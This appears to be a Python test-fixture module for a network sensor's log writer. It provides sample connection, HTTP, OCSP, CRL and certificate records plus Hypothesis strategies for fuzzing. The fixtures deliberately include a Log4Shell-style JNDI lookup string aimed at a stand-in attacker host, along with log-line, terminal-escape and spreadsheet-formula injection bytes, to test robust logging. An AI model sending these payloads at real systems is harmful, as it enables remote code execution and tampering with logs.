"""Observations of every kind for the tests of the logs: one plain one of each, and hypothesis strategies for all."""

from __future__ import annotations

from typing import Any

import msgspec
from hypothesis import strategies as st

from sensor.fetch.findings import CrlFinding
from sensor.fetch.model import CertificateFetch, CrlFetch, Fetch
from sensor.flow.conn import Connection
from sensor.health.counters import Levels, Named, Running, Totals
from sensor.health.measures import CaptureLoss, HealthNotice, LimitStats, Measure, Meter, OwnStats, Stats, WeirdStats
from sensor.http.cleartext import Cleartext
from sensor.http.transaction import BodyFile, Digests, Header, HttpRequest, HttpResponse, HttpTransaction, NotKept
from sensor.logs.sinks.memory import MemorySink
from sensor.logs.writer import LogWriter
from sensor.ocsp.model import (
    CertId,
    CertStatus,
    Evidence,
    OcspExchange,
    OcspRequest,
    OcspResponse,
    RequestTraits,
    SingleResponse,
)
from sensor.pki.crl import Crl, CrlEnd, CrlEntry, CrlExtensions, CrlHead, CrlScope
from sensor.pki.x509 import X509
from sensor.privacy.leak import Grade, Leak
from sensor.settings import FlowSettings, HealthSettings, LogSettings
from sensor.weird import FlowId, Weird

S = 10**9
TS = 1_713_186_227 * S + 890_412_000
FLOW = FlowId("CHhAvVGS1DHFjwGM9", "192.168.2.3", 39867, "209.85.225.105", 80)
CERT = CertId("sha1", bytes(range(20)), bytes(range(20, 40)), "04EFBAC2A12A30D9CDB4F6BC683DDFFC693A")

CONNECTION = Connection(FLOW, TS, "http", 139_278_000, 135, 1604, "SF", 0, "ShADadFf", 7, 507, 5, 1872)
REQUEST = HttpRequest(
    TS, b"GET", b"/a%20b", "1.1", b"ocsp.example", b"curl/8", (Header(b"host", b"ocsp.example"),), (), 0, True
)
REPLY_FILE = BodyFile(
    "FMnxxt3xjVcWNS2141",
    False,
    0,
    TS + S,
    TS + 2 * S,
    "application/ocsp-response",
    "application/ocsp-response",
    None,
    471,
    471,
    0,
    0,
    False,
    b"",
)
RESPONSE = HttpResponse(TS + S, "1.1", 200, b"OK", (), (REPLY_FILE,), 471, True)
TRANSACTION = HttpTransaction(FLOW, TS, 1, REQUEST, RESPONSE)
SINGLE = SingleResponse(CERT, CertStatus.good, None, None, 1_713_100_000 * S, 1_713_700_000 * S)
OCSP_REQUEST = OcspRequest(0, (CERT,), 1, b"\1\2", None, False, (), RequestTraits(False, True))
OCSP_RESPONSE = OcspResponse(
    0, "1.3.6.1.5.5.7.48.1.1", 0, "byKey:AB", 1_713_100_000 * S, (SINGLE,), 1, b"\1\2", signature_algorithm="rsa"
)
EXCHANGE = OcspExchange(
    FLOW,
    TS,
    CERT,
    Evidence.both,
    "GET",
    b"ocsp.example",
    b"/a%20b",
    b"curl/8",
    "1.1",
    200,
    OCSP_REQUEST,
    OCSP_RESPONSE,
    SINGLE,
    None,
    REPLY_FILE.fuid,
    TS + S,
)
CLEARTEXT = Cleartext(
    FLOW,
    TS,
    1,
    b"GET",
    b"shop.example",
    b"/a%20b?token=1",
    b"curl/8",
    200,
    None,
    "text/html",
    ("header:basic", "query:token"),
    (b"id", b"\xff"),
    (b"id",),
    ("jndi:ldap://evil.example/a",),
    (b"user-agent: ${jndi:ldap://evil.example/a}",),
    ("host",),
)
LEAK = Leak(
    TS,
    FLOW,
    "ocsp",
    CERT.serial_number,
    "CN=CA",
    "example.com",
    ("example.com",),
    1,
    1,
    Grade.exact,
    "file",
    1_700_000_000,
    1_730_000_000,
    "curl",
    Evidence.both,
    1,
    EXCHANGE,
)
FETCH = Fetch(
    FLOW,
    TS,
    "GET",
    b"crl.example",
    b"/17.crl",
    b"curl/8",
    200,
    "http://crl.example/17.crl",
    "FCrl",
    "application/pkix-crl",
    TS + S,
    Evidence.both,
)
CRL_SAID = Crl(
    CrlEnd.whole,
    None,
    False,
    CrlHead(2, b"", "CN=CA", b"", 1_713_100_000 * S, 1_713_700_000 * S),
    CrlExtensions(
        "1267",
        "1266",
        b"\xab\xcd",
        CrlScope(("http://crl.example/17.crl",), True, False, False, True, ("keyCompromise",)),
        ("http://crl.example/delta.crl",),
    ),
    40,
    2,
    2000,
    0,
    False,
    (),
    0,
    None,
    (),
    "ecdsa-with-SHA256",
    b"",
    b"",
    None,
    None,
)
CRL_FETCH = CrlFetch(
    FETCH,
    CRL_SAID,
    (CrlEntry("0A", 1_713_000_000 * S, "keyCompromise"),),
    3,
    (CrlFinding.signature_invalid, CrlFinding.ocsp_good),
)
CERTIFICATE = X509(
    "00ff",
    3,
    "1F",
    "CN=CA\\, Inc.",
    "CN=Root",
    1_700_000_000 * S,
    1_730_000_000 * S,
    "rsaEncryption",
    "sha256WithRSAEncryption",
    "rsa",
    2048,
    "65537",
    None,
    ("a.example",),
    ("urn:x",),
    ("a@b.example",),
    ("192.0.2.1",),
    True,
    0,
    b"",
    b"",
    "CA, Inc.",
)
CERTIFICATE_FETCH = CertificateFetch(FETCH, TS + S, (CERTIFICATE,), 0)
WEIRD = Weird(TS, "HTTP_bad_chunk_size", FLOW, "\tf", "HTTP")


def changed(record: Any, **fields: Any) -> Any:
    if isinstance(record, msgspec.Struct):
        return msgspec.structs.replace(record, **fields)
    return type(record)(**{name: getattr(record, name) for name in type(record).__slots__} | fields)


def measures(running: Running | None = None) -> list[Measure]:
    """What is said of the first minute of a sensor with a tenth of its packets lost."""
    meter = Meter(HealthSettings())
    meter.begin(TS)
    totals = Totals(
        frames=9, wire_bytes=9000, tcp_frames=8, odd_frames=1, flows=2, acks=1000, ack_gaps=125, log_lines=3
    )
    named = Named(weirds={"HTTP_bad_chunk_size": 7}, limits={"flow.max_flows:half_open": 3})
    return meter.measure(TS + 60 * S, totals, Levels(flows=1, timers=2, emergency=True), running, named)


def make_writer(merged: bool = False, **settings: Any) -> tuple[LogWriter, MemorySink]:
    sink = MemorySink(merged)
    return LogWriter(LogSettings(**settings), FlowSettings().local_nets, sink), sink


def records(log: str, /, *observations: Any, **settings: Any) -> list[dict[str, Any]]:
    """The decoded lines of one log for these observations (an exchange stands for a list of one, so does a leak)."""
    writer, sink = make_writer(**settings)
    for observation in observations:
        match observation:
            case Connection():
                writer.connection(observation)
            case HttpTransaction():
                writer.transaction(observation)
            case OcspExchange():
                writer.exchanges([observation])
            case Leak():
                writer.exchanges([observation.exchange], [observation])
                writer.leaks([observation])
            case Weird():
                writer.weird(observation)
            case Stats() | CaptureLoss() | OwnStats() | WeirdStats() | LimitStats() | HealthNotice():
                writer.health([observation])
            case Cleartext():
                writer.cleartext(observation)
            case CrlFetch():
                writer.crl(observation)
            case CertificateFetch():
                writer.certificates(observation)
    writer.close()
    return sink.records(log)


# Text that is out to break a line, a string, a parser or a terminal, and plain text.
hostile_bytes = st.one_of(
    st.binary(max_size=40),
    st.sampled_from(
        [
            b"\n",
            b"\r\n",
            b"\0",
            b'"',
            b"\\",
            b"\\x07",
            b"\x1b[31m",
            b"\x7f",
            b"\xc2\x9b",
            b"\xe2\x80\xa8",
            b"\xe2\x80\xae",
            b"\xef\xbb\xbf",
            b"\xed\xa0\x80",
            b"\xc0\xaf",
            b"\xff\xfe",
            b"\xf0\x9f\x98\x84",
            b"</script>",
            b'"}\n{"ts":1',
            b"%",
            b"%0a",
            b"=cmd|",
        ]
    ),
    st.text(max_size=20).map(lambda text: text.encode(errors="surrogatepass")),
)
hostile_text = st.one_of(
    hostile_bytes.map(lambda raw: raw.decode("latin-1")),
    hostile_bytes.map(lambda raw: raw.decode(errors="surrogateescape")),
    st.text(st.characters(), max_size=20),
)
times = st.integers(0, 4_000_000_000 * S)
stated_times = st.integers(-62_135_596_800, 253_402_300_799).map(lambda second: second * S)
counts = st.integers(0, 1 << 62)
ports = st.integers(0, 65535)
identifiers = st.text("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", min_size=17, max_size=18)
addresses = st.one_of(st.ip_addresses(v=4).map(str), st.ip_addresses(v=6).map(str))


@st.composite
def flows(draw: st.DrawFn) -> FlowId:
    version = draw(st.sampled_from([4, 6]))
    address = st.ip_addresses(v=version).map(str)
    return FlowId("C" + draw(identifiers), draw(address), draw(ports), draw(address), draw(ports))


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | strategy


@st.composite
def connections(draw: st.DrawFn) -> Connection:
    timed = draw(st.booleans())
    return Connection(
        draw(flows()),
        draw(times),
        draw(st.sampled_from([None, "http", "ssl"])),
        draw(counts) if timed else None,
        draw(counts) if timed else None,
        draw(counts) if timed else None,
        draw(st.sampled_from(["S0", "SF", "RSTOS0", "OTH"])),
        draw(counts),
        draw(st.sampled_from(["", "S", "ShADadFf", "^hADaF"])),
        draw(counts),
        draw(counts),
        draw(counts),
        draw(counts),
        draw(maybe(st.integers(0, 4095))),
        draw(maybe(st.integers(0, 4095))),
        draw(st.lists(identifiers, max_size=2).map(tuple)),
    )


@st.composite
def files(draw: st.DrawFn, is_orig: bool) -> BodyFile:
    first = draw(times)
    return BodyFile(
        "F" + draw(identifiers),
        is_orig,
        draw(st.integers(0, 5)),
        first,
        first + draw(st.integers(0, 10**12)),
        draw(st.sampled_from([None, "text/plain", "application/ocsp-response"])),
        draw(maybe(st.text())),
        draw(maybe(hostile_text)),
        draw(counts),
        draw(maybe(st.integers(0, 1 << 70))),
        draw(counts),
        draw(counts),
        draw(st.booleans()),
        NotKept.UNWANTED,
        draw(maybe(st.just(Digests("0" * 32, "1" * 40, "2" * 64)))),
        draw(maybe(identifiers)),
    )


header_names = st.sampled_from(
    [b"referer", b"origin", b"authorization", b"proxy-authorization", b"via", b"x-forwarded-for", b"accept", b"host"]
)
headers = st.lists(st.builds(Header, header_names, hostile_bytes | st.just(b"Basic dGVzdDpzZWNyZXQ=")), max_size=5)


@st.composite
def transactions(draw: st.DrawFn) -> HttpTransaction:
    request = st.builds(
        HttpRequest,
        times,
        hostile_bytes,
        hostile_bytes,
        maybe(st.sampled_from(["1.0", "1.1"])),
        maybe(hostile_bytes),
        maybe(hostile_bytes),
        headers.map(tuple),
        st.lists(files(True), max_size=3).map(tuple),
        counts,
        st.booleans(),
    )
    response = st.builds(
        HttpResponse,
        times,
        maybe(st.sampled_from(["", "1.0", "1.1"])),
        maybe(st.integers(0, 999)),
        maybe(hostile_bytes),
        headers.map(tuple),
        st.lists(files(False), max_size=20).map(tuple),
        counts,
        st.booleans(),
        maybe(st.integers(100, 199)),
        maybe(hostile_bytes),
    )
    return HttpTransaction(draw(flows()), draw(times), draw(counts), draw(maybe(request)), draw(maybe(response)))


@st.composite
def cleartexts(draw: st.DrawFn) -> Cleartext:
    names = st.lists(hostile_bytes, max_size=3).map(tuple)
    words = st.lists(hostile_text, max_size=3).map(tuple)
    maybe_bytes = maybe(hostile_bytes)
    return Cleartext(
        draw(flows()),
        draw(times),
        draw(counts),
        draw(maybe_bytes),
        draw(maybe_bytes),
        draw(maybe_bytes),
        draw(maybe_bytes),
        draw(maybe(st.integers(0, 999))),
        draw(maybe(hostile_text)),
        draw(maybe(hostile_text)),
        draw(words),
        draw(names),
        draw(names),
        draw(words),
        draw(names),
        draw(words),
    )


serials = st.binary(min_size=1, max_size=20).map(lambda octets: octets.hex().upper())
cert_ids = st.builds(
    CertId,
    st.sampled_from(["sha1", "sha256", "1.2.3.4"]),
    st.binary(max_size=64),
    st.binary(max_size=64),
    serials,
)
singles = st.builds(
    SingleResponse,
    cert_ids,
    st.sampled_from(CertStatus),
    maybe(stated_times),
    maybe(st.sampled_from(["keyCompromise", "77"])),
    maybe(stated_times),
    maybe(stated_times),
)
ocsp_requests = st.builds(
    OcspRequest,
    st.just(0),
    st.lists(cert_ids, max_size=2).map(tuple),
    st.integers(0, 9),
    maybe(st.binary(max_size=2000)),
    maybe(hostile_text),
    st.booleans(),
    st.just(()),
    st.just(RequestTraits(False, True)),
)
ocsp_responses = st.builds(
    OcspResponse,
    st.integers(0, 7),
    st.none(),
    st.just(0),
    maybe(hostile_text),
    maybe(stated_times),
    st.lists(singles, max_size=4).map(tuple),
    st.integers(0, 9),
    maybe(st.binary(max_size=40)),
    signature_algorithm=maybe(hostile_text),
)


@st.composite
def exchanges(draw: st.DrawFn) -> OcspExchange:
    return OcspExchange(
        draw(flows()),
        draw(times),
        draw(maybe(cert_ids)),
        draw(st.sampled_from(Evidence)),
        draw(maybe(st.sampled_from(["GET", "POST"]))),
        draw(maybe(hostile_bytes)),
        draw(maybe(hostile_bytes)),
        draw(maybe(hostile_bytes)),
        draw(maybe(st.sampled_from(["1.0", "1.1"]))),
        draw(maybe(st.integers(0, 999))),
        draw(maybe(ocsp_requests)),
        draw(maybe(ocsp_responses)),
        draw(maybe(singles)),
        draw(maybe(identifiers)),
        draw(maybe(identifiers)),
        draw(maybe(times)),
    )


@st.composite
def leaks(draw: st.DrawFn) -> Leak:
    exchange = draw(exchanges())
    return Leak(
        exchange.ts,
        exchange.flow,
        "ocsp",
        draw(serials),
        draw(maybe(hostile_text)),
        draw(maybe(hostile_text)),
        draw(st.lists(hostile_text, max_size=3).map(tuple)),
        draw(counts),
        draw(counts),
        draw(st.sampled_from(Grade)),
        draw(maybe(hostile_text)),
        draw(maybe(st.integers(-62_135_596_800, 253_402_300_799))),
        draw(maybe(st.integers(-62_135_596_800, 253_402_300_799))),
        draw(hostile_text),
        exchange.evidence,
        draw(counts),
        exchange,
    )


weirds = st.builds(
    Weird,
    times,
    st.sampled_from(["HTTP_bad_chunk_size", "truncated_header", "unescaped_%_in_URI"]),
    maybe(flows()),
    maybe(hostile_text),
    st.sampled_from([None, "HTTP", "TCP"]),
)
